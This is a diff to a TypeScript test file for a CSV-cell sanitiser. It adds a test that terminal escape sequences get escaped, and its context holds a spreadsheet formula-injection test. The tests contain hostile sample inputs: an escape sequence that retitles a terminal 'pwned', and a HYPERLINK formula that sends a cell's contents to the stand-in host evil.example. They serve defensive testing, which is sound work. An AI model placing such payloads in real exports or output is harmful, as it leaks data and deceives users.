@@ -4,6 +4,13 @@ import { resultsCsv } from "./eval/report.ts";
 import { EvalResultSchema } from "./eval/schema.ts";
 
 describe("csvCell", () => {
+  it("shows a program's escape sequences instead of writing them raw", () => {
+    expect(csvCell("ValueError: \x1b]0;pwned\x07\x1b[2K\u009b1m")).toBe(
+      "ValueError: \\x1b]0;pwned\\x07\\x1b[2K\\x9b1m",
+    );
+    expect(csvCell("a\tb")).toBe("a\tb");
+  });
+
   it("neutralises text a spreadsheet would run as a formula (OWASP)", () => {
     expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"x")')).toBe(
       `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`,
